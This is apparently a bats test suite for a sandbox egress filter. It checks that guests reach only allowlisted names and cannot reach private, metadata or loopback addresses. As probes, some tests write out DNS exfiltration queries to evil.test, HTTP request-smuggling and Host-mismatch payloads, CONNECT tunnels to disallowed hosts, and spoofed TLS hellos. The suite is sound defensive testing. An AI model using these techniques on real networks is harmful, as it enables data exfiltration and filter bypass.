#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# What sandboxes can reach, tried for real: the whole server in a network namespace, an internet of its
# own in another (net/lab.bash says which names and addresses there are).

load net/lab

setup_file() {
	lab_up
	server_start --egress-open
	lab_save
}
teardown_file() {
	lab_load
	lab_down
}
setup() {
	lab_load
	mark
	: >"$D/log"
}
teardown() { remove_all; }

POKE=/sandbox/home/poke
put_poke() { put_file "$O/tests/linux/poke" "$POKE" 755; }
fetch() { guest "wget -q -O - http://$1 2>&1"; }

# --- names

@test "an allowed name is reached over HTTP, TLS and anything else" {
	new "$(allow ok.test)"
	[ "$(fetch ok.test/x)" = "host=ok.test path=/x body=0" ]
	[ "$(guest 'wget -q -O - https://ok.test/y 2>/dev/null')" = "host=ok.test path=/y body=0" ]
	[ "$(guest 'echo hello | nc ok.test 7')" = hello ]
	[ "$(fetch ok.test:8080/z)" = "host=ok.test:8080 path=/z body=0" ]
	# a server that speaks first does not wait for its client
	guest 'nc -w 5 ok.test 22 </dev/null' | grep -q SSH-2.0-world
	world_saw 'tls ok.test'
}

@test "a pattern ends at a label; deny wins over allow" {
	new '{"mode":"allowlist","allow":["*.sub.test","ok.test","other.test"],"deny":["other.test"]}'
	fetch a.sub.test/ | grep -q host=a.sub.test
	fetch b.a.sub.test/ | grep -q host=b.a.sub.test
	fetch B.A.SUB.TEST./ | grep -qi host=b.a.sub.test
	mark
	for n in sub.test evilsub.test a.sub.test.evil.test other.test shared.test; do
		run fetch "$n/"
		[ "$status" != 0 ]
		[[ $output == *"bad address"* ]]
	done
	never world_saw .
}

@test "a name that is not allowed does not resolve, and nobody is asked about it" {
	new "$(allow ok.test)"
	guest 'nslookup secret-data.evil.test; nslookup evil.test; nslookup $(head -c 20 /dev/urandom | od -An -tx1 | tr -d " \n").evil.test' | grep -c NXDOMAIN
	guest 'nslookup -type=txt secret.ok.test; nslookup -type=mx ok.test; nslookup -type=txt ok.test' || true
	[ ! -s "$D/world/log" ]
	grep -q 'egress refused .*name=secret-data.evil.test' "$D/log"
}

@test "a name with odd bytes is quoted in the log" {
	new "$(allow ok.test)"
	guest "printf 'GET / HTTP/1.1\r\nHost: evil\033[31m.test\r\n\r\n' | nc ok.test 80; printf 'GET / HTTP/1.1\r\nHost: shared.test\r\n\r\n' | nc ok.test 80"
	wait_for 5 grep -q 'name=shared.test' "$D/log"
	never grep -q "$(printf '\033')" "$D/log"
}

@test "only addresses exist: AAAA is empty, a mapped or a real IPv6 address has no way" {
	new "$(allow ok.test mapped.test)"
	put_poke
	[ "$(guest 'nslookup -type=aaaa ok.test 127.0.0.53 | grep -c "has AAAA\|Address: .*::"' || true)" = 0 ]
	[ "$(guest "$POKE tcp6 2606:4700::1111 443")" = "tcp6 101" ]
	# over IPv4 in IPv6 clothes it is what it is over IPv4
	[ "$(guest "$POKE tcp6 ::ffff:11.0.1.10 80")" = "tcp6 closed" ]
	never fetch mapped.test/
	never world_saw connect
}

# --- addresses

@test "an address that no name led to is refused, on every port" {
	new "$(allow ok.test)"
	put_poke
	for port in 22 80 443 7 53000; do
		[ "$(guest "$POKE tcp 11.0.1.10 $port")" = "tcp closed" ]
	done
	guest "printf 'GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n' | nc 11.0.1.20 80" || true
	never world_saw connect
	grep -q 'address=11.0.1.20' "$D/log"
}

@test "private, link-local and metadata addresses and the host itself are refused after resolving" {
	new "$(allow inner.test meta.test loop.test host.test host2.test mapped.test)"
	for n in inner meta loop host host2 mapped; do
		never fetch "$n.test/"
	done
	never world_saw connect
	[ "$(grep -c 'leads to an address that is not public' "$D/log")" -ge 6 ]
}

@test "of mixed answers only the public one is used" {
	new "$(allow mixed.test)"
	for _ in 1 2 3 4; do fetch mixed.test/ >/dev/null; done
	[ "$(grep -c 'connect 11.0.1.10:80' "$D/world/log")" = 4 ]
	never world_saw 'connect 10\.\|connect 169'
}

@test "a name that changes its address between two answers never leads inside" {
	new "$(allow flip.test)"
	fetch flip.test/ | grep -q host=flip.test
	mark
	for _ in 1 2 3; do never fetch flip.test/; done
	never world_saw connect
}

@test "a name that has IPv6 addresses only is reached, by the same rule" {
	new "$(allow six.test host6.test ula.test)"
	fetch six.test/ | grep -q host=six.test
	world_saw 'connect 2600:1::10:80'
	mark
	never fetch host6.test/
	never fetch ula.test/
	never world_saw connect
}

@test "the address that was checked is the one that is dialled: one question a connection" {
	new "$(allow ok.test)"
	fetch ok.test/ >/dev/null
	[ "$(grep -c '^query' "$D/world/log")" = 1 ]
}

# --- all names of a connection

@test "the name in the hello must be the one that was asked for" {
	new "$(allow ok.test shared.test)"
	put_poke
	for row in "ok.test tls" "shared.test closed" "evil.test closed" "- closed"; do
		set -- $row
		python3 "$NET_DIR/hello.py" "$1" >"$D/hello"
		put_file "$D/hello" /tmp/hello
		mark
		guest "$POKE feed \$(nslookup ok.test | awk '/^Address: 198/ {print \$2}') 443 /tmp/hello" >"$D/out" || true
		if [ "$2" = tls ]; then
			world_saw 'connect 11.0.1.10:443'
		else
			never world_saw connect
		fi
	done
	grep -q 'name=evil.test .*another server' "$D/log" || grep -q 'name=evil.test' "$D/log"
}

@test "hidden, split and oversized hellos are refused, slow ones are not" {
	new "$(allow ok.test)"
	put_poke
	for how in ech split big garbage; do
		python3 "$NET_DIR/hello.py" ok.test "$how" >"$D/hello"
		put_file "$D/hello" /tmp/hello
		mark
		guest "$POKE feed \$(nslookup ok.test | awk '/^Address: 198/ {print \$2}') 443 /tmp/hello" >"$D/out" || true
		never world_saw connect
	done
	python3 "$NET_DIR/hello.py" ok.test >"$D/hello"
	put_file "$D/hello" /tmp/hello
	guest "$POKE feed \$(nslookup ok.test | awk '/^Address: 198/ {print \$2}') 443 /tmp/hello 40 30" >"$D/out" || true
	world_saw 'connect 11.0.1.10:443'
}

http() { # http TEXT [NAME [PORT]]: sends it raw, prints what comes back
	printf "$1" >"$D/text"
	put_file "$D/text" /tmp/text
	guest "nc -w 5 ${2:-ok.test} ${3:-80} </tmp/text" || true
}

@test "each request of a connection must name the server, pipelined ones too" {
	new "$(allow ok.test shared.test)"
	local a='GET /1 HTTP/1.1\r\nHost: ok.test\r\n\r\n' b='GET /2 HTTP/1.1\r\nHost: shared.test\r\n\r\n'
	[ "$(http "$a$a$a" | grep -c '^host=')" = 3 ]
	mark
	http "$a$b"
	never world_saw 'GET /2'
	http "${b}"
	http 'GET http://shared.test/3 HTTP/1.1\r\nHost: ok.test\r\n\r\n'
	http 'GET http://shared.test/3 HTTP/1.1\r\nHost: shared.test\r\n\r\n'
	http 'GET /3 HTTP/1.1\r\nHost: ok.test\r\nHost: shared.test\r\n\r\n'
	http 'GET /3 HTTP/1.1\r\n\r\n'
	http 'GET /3\r\n\r\n'
	http '\r\n GET /3 HTTP/1.1\r\nHost: ok.test\r\n\r\n'
	http 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
	# a request hidden in what another reader would take for a body
	http 'POST /1 HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /3 HTTP/1.1\r\nHost: shared.test\r\n\r\n'
	never world_saw 'GET /3'
	# the same on a port that is not the web's
	http "$b" ok.test 8080
	http "\r\n\r\n$b" ok.test 8080
	never world_saw 'GET /2'
	[ "$(http "$a" ok.test 8080 | grep -c '^host=')" = 1 ]
}

@test "bodies pass, and the request behind one is read" {
	new "$(allow ok.test)"
	guest 'head -c 3000000 /dev/zero >/tmp/z; { printf "POST /p HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 3000000\r\n\r\n"; cat /tmp/z; printf "GET /q HTTP/1.1\r\nHost: shared.test\r\n\r\n"; } | nc -w 5 ok.test 80' | grep -q body=3000000 || true
	world_saw 'POST /p'
	never world_saw 'GET /q'
	[ "$(guest '{ printf "POST /p HTTP/1.1\r\nHost: ok.test\r\nTransfer-Encoding: chunked\r\n\r\n"; for i in 1 2 3; do printf "186A0\r\n"; head -c 100000 /dev/zero; printf "\r\n"; done; printf "0\r\n\r\n"; } | nc -w 5 ok.test 80 | grep -o body=300000')" = body=300000 ]
}

@test "CONNECT is served here, for the name that was asked for and no other" {
	new "$(allow ok.test shared.test)"
	http 'CONNECT ok.test:7 HTTP/1.1\r\nHost: ok.test:7\r\n\r\nhello' | grep -q hello
	mark
	http 'CONNECT shared.test:7 HTTP/1.1\r\nHost: shared.test:7\r\n\r\nhello'
	http 'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n'
	http 'CONNECT 10.9.9.9:80 HTTP/1.1\r\nHost: 10.9.9.9\r\n\r\n'
	http 'CONNECT ok.test:80 HTTP/1.1\r\nHost: ok.test\r\n\r\nGET /t HTTP/1.1\r\nHost: shared.test\r\n\r\n'
	http 'CONNECT ok.test:80 HTTP/1.1\r\nHost: ok.test\r\n\r\nCONNECT ok.test:7 HTTP/1.1\r\nHost: ok.test\r\n\r\n'
	never world_saw connect
}

@test "a websocket is a tunnel once the server has said so, and not before" {
	new "$(allow ok.test)"
	local up='GET /w HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n'
	guest "{ printf '$up'; sleep 1; printf 'frames'; sleep 1; } | nc -w 5 ok.test 80" | grep -q frames
	mark
	# the server of port 8080 does as that of port 80; a request smuggled behind an upgrade waits for the answer
	http "${up}GET /x HTTP/1.1\r\nHost: shared.test\r\n\r\n"
	never world_saw 'request GET /x'
}

@test "a server that ends in the middle of its answer to an Upgrade has answered; who waits for one may end" {
	new "$(allow ok.test)"
	local up='Host: ok.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n'
	# its end comes while the guest keeps its own side open
	[ "$(guest "{ printf 'GET /half HTTP/1.1\r\n$up'; sleep 8; echo ' late' >>/tmp/o; } | nc -w 15 ok.test 80 >>/tmp/o; cat /tmp/o")" = 'HTTP/1.1 late' ]
	# requests that had to wait for the answer go on
	[ "$(http "GET /half HTTP/1.1\r\n${up}GET /late HTTP/1.1\r\nHost: ok.test\r\n\r\n")" = HTTP/1.1 ]
	wait_for 5 world_saw 'behind GET /late'
	mark
	http "GET /none HTTP/1.1\r\n$up"
	wait_for 5 world_saw 'ended GET /none'
}

@test "what a server said before it was asked for an Upgrade comes before its answer" {
	new "$(allow ok.test)"
	put_poke
	# somewhere between what buffers on the way hold and a bit more the last of it lies in the relay alone
	guest "A=\$(nslookup ok.test | awk '/^Address: 198/ {print \$2}'); i=1; while [ \$i -le 64 ]; do
		(echo \$i \$($POKE late \$A \$((20000 + i)))) & i=\$((i + 1)); done; wait" >"$D/out"
	sort -n "$D/out" >&2
	[ "$(awk '$2 == $1 * 16384' "$D/out" | wc -l)" = 64 ]
}

@test "who says no name in time is cut off" {
	new "$(allow ok.test)"
	put_poke
	# half of a request that comes late is not let through on other ports either
	guest "A=\$(nslookup ok.test | awk '/^Address: 198/ {print \$2}'); (printf 'GET / HT'; sleep 17; printf 'TP/1.1\r\nHost: shared.test\r\n\r\n') | nc \$A 8080 & sleep 18 | nc \$A 443; wait" >"$D/out" 2>&1 || true
	never world_saw 'connect .*:443'
	world_saw 'connect .*:8080'
	never world_saw 'host shared.test'
	grep -q 'does not say the server' "$D/log"
}

# --- nothing else gets out

@test "UDP, ICMP, raw and packet sockets lead nowhere; a name query to any address is ours" {
	new "$(allow ok.test)"
	put_poke
	for row in "11.0.1.10 123" "11.0.0.1 53000" "169.254.169.254 80" "10.9.9.9 443"; do
		[ "$(guest "$POKE udp $row")" = "udp 101" ]
	done
	guest 'nslookup ok.test 8.8.8.8' | grep -q 'Address: 198.18.'
	guest 'nslookup evil.test 11.0.0.53' | grep -q NXDOMAIN
	never world_saw .
	[ "$(guest "$POKE sock 2 3 1")" = "sock 1" ]  # AF_INET, SOCK_RAW, ICMP
	[ "$(guest "$POKE sock 17 3 3")" = "sock 97" ] # AF_PACKET
	[ "$(guest "$POKE sock 40 1 0")" = "sock 97" ] # AF_VSOCK
	[ "$(guest "$POKE bind 11.0.1.10 80")" = "bind 99" ]
}

@test "127.0.0.0/8 inside is the guest's own, and the host's loopback is not there" {
	new "$(allow ok.test)"
	put_poke
	[ "$(served 127.0.0.1 8080)" = hello ]
	[ "$(served 127.1.2.3 8080)" = hello ]
	[ "$(served 192.0.2.2 443)" = hello ]
	nsenter --net="/run/netns/$NSH" socat TCP-LISTEN:9999,bind=127.0.0.1,fork EXEC:/bin/cat 3>&- &
	local pid=$!
	[ "$(guest "$POKE tcp 127.0.0.1 9999")" = "tcp 111" ]
	kill "$pid"
}

@test "sandboxes never reach each other" {
	new "$(allow ok.test)"
	local a=$S
	new "$(allow ok.test)"
	local b=$S
	S=$a put_poke
	S=$b put_poke
	S=$a guest "$POKE serve 7777 >/dev/null 2>&1 &"
	for addr in 127.0.0.1 192.0.2.2; do
		[ "$(S=$b guest "$POKE tcp $addr 7777")" = "tcp 111" ]
	done
	for addr in 198.18.0.1 11.0.0.1; do
		[ "$(S=$b guest "$POKE tcp $addr 7777")" = "tcp closed" ]
	done
}

@test "a placeholder means something in its own sandbox only" {
	new "$(allow ok.test)"
	local a=$S
	S=$a fetch ok.test/ >/dev/null
	new "$(allow ok.test)"
	put_poke
	mark
	[ "$(guest "$POKE tcp 198.18.0.1 7")" = "tcp closed" ]
	never world_saw connect
}

@test "none: no route, loopback works, and no process is there for it" {
	new '{"mode":"none"}'
	put_poke
	[ "$(guest "$POKE tcp 11.0.1.10 80")" = "tcp 101" ]
	[ "$(guest "$POKE udp 8.8.8.8 53")" = "udp 101" ]
	[ "$(served 127.0.0.1 8080)" = hello ]
	[ ! -e "$D/state/run/$S/egress" ]
}

@test "tunnels reach neither the name server nor the way out" {
	new "$(allow ok.test)"
	for port in 53 0 65536; do
		code=$(api -o /dev/null -w '%{http_code}' -H 'Connection: Upgrade' -H 'Upgrade: tcp' \
			"/v1/sandboxes/$S/tunnel?port=$port")
		[ "${code:0:1}" = 4 ]
	done
}

# --- the relay

@test "half-closes are kept, in both directions" {
	new "$(allow ok.test)"
	[ "$(guest 'head -c 2000000 /dev/zero | nc ok.test 8')" = 2000000 ]
	[ "$(guest 'head -c 2000000 /dev/zero | nc ok.test 7 | wc -c')" = 2000000 ]
}

@test "a reader that stops stops the sender, and costs nothing" {
	new "$(allow ok.test)"
	guest 'mkfifo /tmp/f; (sleep 3; cat >/dev/null) </tmp/f & wget -q -O /tmp/f http://ok.test/big/50000000 & sleep 1; true'
	[ "$(awk '$1 == "VmRSS:" { print $2 }' "/proc/$(egress_pid)/status")" -lt 1500 ]
	guest 'wait; true'
}

@test "bytes are counted as the guest sees them" {
	new "$(allow ok.test)"
	guest 'wget -q -O /dev/null http://ok.test/big/1000000'
	guest 'head -c 500000 /dev/zero | nc ok.test 8' >/dev/null
	counted() {
		api "/v1/sandboxes/$S/metrics" >"$D/metrics"
		jq -e '[.samples[] | select(.net_rx_bytes >= 1000000 and .net_tx_bytes >= 500000)] | length > 0' "$D/metrics" >/dev/null
	}
	wait_for 20 counted
}

@test "a thousand connections stand, no more; then there is room again" {
	new "$(allow ok.test)"
	put_poke
	guest "$POKE many 1200 \$(nslookup ok.test | awk '/^Address: 198/ {print \$2}') 7" >"$D/out"
	[ "$(awk '{ print $2 }' "$D/out")" -le 1024 ]
	[ "$(awk '{ print $2 }' "$D/out")" -ge 1000 ]
	[ "$(guest 'echo hi | nc ok.test 7')" = hi ]
	grep -q 'too many connections' "$D/log"
}
